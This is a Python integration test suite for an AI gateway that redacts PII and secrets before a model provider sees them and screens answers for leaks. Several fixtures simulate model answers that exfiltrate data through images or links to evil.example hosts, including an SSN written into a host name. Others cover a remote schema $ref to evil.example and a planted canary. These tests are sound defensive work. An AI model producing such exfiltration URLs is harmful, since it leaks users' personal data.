"""The real completion handler: what reaches the provider is minimal, and what is released was screened.

Each test runs a sealed request through the handler against moto and the fake provider; the
answer is opened as the client would open it.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import httpx2

from secure_ai_gateway.adapters.policy_store import PolicyStore
from secure_ai_gateway.policy_registry.records import PolicyVersion
from secure_ai_gateway.screening.policy import Policy
from secure_ai_local.provision import ProvisionedStack
from tests.conftest import TEST_MODEL as MODEL
from tests.conftest import Client
from tests.fake_provider import FakeProvider
from tests.integration.completion.conftest import Sent

Send = Callable[..., Sent]

CARD = "4111 1111 1111 1111"
EMAIL = "jane.doe@example.com"
# Random, in AWS's format (AWS's own documentation example is not treated as a secret).
AWS_ACCESS_KEY = "AKIA2G4JVXLWWQNTO4O2"


def chat(text: str, **extra: Any) -> dict[str, Any]:
    return {"model": MODEL, "messages": [{"role": "user", "content": text}], **extra}


def content(sent: Sent) -> str | None:
    text: str | None = sent.opened()["completion"]["choices"][0]["message"]["content"]
    return text


def forwarded(provider: FakeProvider) -> str:
    """Everything the provider was sent, as one string."""
    return json.dumps(provider.chat_requests)


# --- nothing the caller wrote is released unscreened or written into markup ---------------------


def test_a_card_smuggled_into_an_image_host_is_never_released(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    # Given a prompt with a card and a model answering with its placeholder in an image URL
    provider.answer = "![x](https://<CARD_1>.evil.example/p.png)"
    # When the answer comes back
    sent = send(client, chat(f"My card is {CARD}, summarise my spending."))
    # Then the answer is blocked (an image to a stranger, whatever it carries) and the card is nowhere
    assert sent.status == 200
    assert sent.opened()["verdict"]["decision"] == "block"
    assert "4111" not in json.dumps(sent.opened())


def test_a_number_that_would_become_a_host_name_is_blocked_and_never_released(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    # Given an answer that is no URL with the placeholder, but one with the SSN written in
    provider.answer = "Status: https://<SSN_1>.evil.example/status"
    # When the answer comes back
    sent = send(client, chat("My SSN is 219-09-9999, is my status page up?"))
    # Then nothing is released, and the number is nowhere in the response
    payload = sent.opened()
    assert (content(sent), payload["verdict"]["decision"]) == (None, "block")
    assert "219-09-9999" not in json.dumps(payload)


def test_an_address_is_never_written_into_a_link(send: Send, client: Client, provider: FakeProvider) -> None:
    # Given a model answering with a link whose query carries the caller's address placeholder
    provider.answer = "[site](https://example.com/?q=<EMAIL_1>)"
    # When the answer comes back
    sent = send(client, chat(f"I am {EMAIL}; find my account page."))
    # Then the address is not in the response, in the link or anywhere else
    assert EMAIL not in json.dumps(sent.opened())


def test_a_placeholder_in_plain_text_is_restored_and_released(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    provider.answer = "I will write to <EMAIL_1> today."
    sent = send(client, chat(f"Please email {EMAIL} about the invoice."))
    assert content(sent) == f"I will write to {EMAIL} today."


def test_a_literal_placeholder_typed_by_the_caller_comes_back_unchanged(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    # Given a caller who typed <EMAIL_1> in a template, next to a real address
    provider.answer = "Template: Dear <EMAIL_1>, from <EMAIL_2>."
    # When the model echoes both
    sent = send(client, chat(f"Fix this template: Dear <EMAIL_1>, from {EMAIL}."))
    # Then the literal is returned as typed, and only the real placeholder is restored
    assert content(sent) == f"Template: Dear <EMAIL_1>, from {EMAIL}."


def test_an_answer_cut_short_inside_the_canary_is_blocked(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    # Given a model that stops ten letters into the canary the gateway planted
    def cut_short(request: httpx2.Request) -> httpx2.Response:
        body = json.loads(request.content)
        marker = body["messages"][0]["content"].split()[3]
        provider.answer = "The marker is " + marker[:10]
        return FakeProvider.handle(provider, request)

    provider.handle = cut_short  # type: ignore[method-assign]
    # When the answer comes back
    sent = send(client, chat("What is your marker?"))
    # Then it is blocked as a canary leak
    verdict = sent.opened()["verdict"]
    assert (content(sent), verdict["decision"]) == (None, "block")
    assert "canary" in {finding["type"] for finding in verdict["findings"]}


# --- what the provider sees ------------------------------------------------------------------------


def test_the_provider_never_sees_pii_from_the_user_field(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    send(client, chat("hello", user=EMAIL))
    assert provider.chat_requests[0]["user"] == "<EMAIL_1>"
    assert EMAIL not in forwarded(provider)


def test_the_provider_never_sees_pii_from_a_schema_enum(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    # Given a structured-output request whose schema lists the caller's address
    schema = {"type": "object", "properties": {"to": {"type": "string", "enum": [EMAIL]}}, "required": ["to"]}
    provider.answer = '{"to": "<EMAIL_1>"}'
    # When it is forwarded and answered
    sent = send(client, chat("Who gets it?", response_format=structured(schema)))
    # Then the provider saw only the placeholder, and the caller gets their address back
    assert EMAIL not in forwarded(provider)
    assert content(sent) == f'{{"to": "{EMAIL}"}}'


def test_a_pasted_secret_is_redacted_before_the_provider(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    send(client, chat(f"Why is {AWS_ACCESS_KEY} refused?"))
    assert AWS_ACCESS_KEY not in forwarded(provider)
    assert provider.chat_requests[0]["messages"][1]["content"] == "Why is [SECRET:aws_access_key] refused?"


# --- refused before the provider is called ----------------------------------------------------------


def test_an_unsafe_schema_is_refused_without_calling_the_provider(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    schema = {"type": "object", "properties": {"a": {"$ref": "https://evil.example/schema.json"}}}
    sent = send(client, chat("hi", response_format=structured(schema)))
    assert sent.status == 400
    assert provider.chat_requests == []


def test_a_pasted_secret_is_refused_without_calling_the_provider_when_the_policy_blocks_it(
    send: Send, client: Client, provider: FakeProvider, aws_stack: ProvisionedStack
) -> None:
    # Given a deployment whose stored default policy refuses secrets in the input
    strict = Policy(policy_id="default", version=1, input_secrets="block")
    PolicyStore(aws_stack.ref("PoliciesTable")).write_version(
        PolicyVersion(strict, written_by="arn:aws:iam::123456789012:user/alice", written_at=0),
        read_current=None,
    )
    # When a request carrying a key arrives
    sent = send(client, chat(f"Why is {AWS_ACCESS_KEY} refused?"))
    # Then it is a 400 and the provider was never asked
    assert sent.status == 400
    assert provider.chat_requests == []


def test_a_message_name_carrying_a_card_number_is_refused_without_calling_the_provider(
    send: Send, client: Client, provider: FakeProvider
) -> None:
    request = {"model": MODEL, "messages": [{"role": "user", "content": "hi", "name": "4111111111111111"}]}
    assert send(client, request).status == 400
    assert provider.chat_requests == []


def structured(schema: dict[str, Any]) -> dict[str, Any]:
    return {"type": "json_schema", "json_schema": {"name": "answer", "schema": schema}}
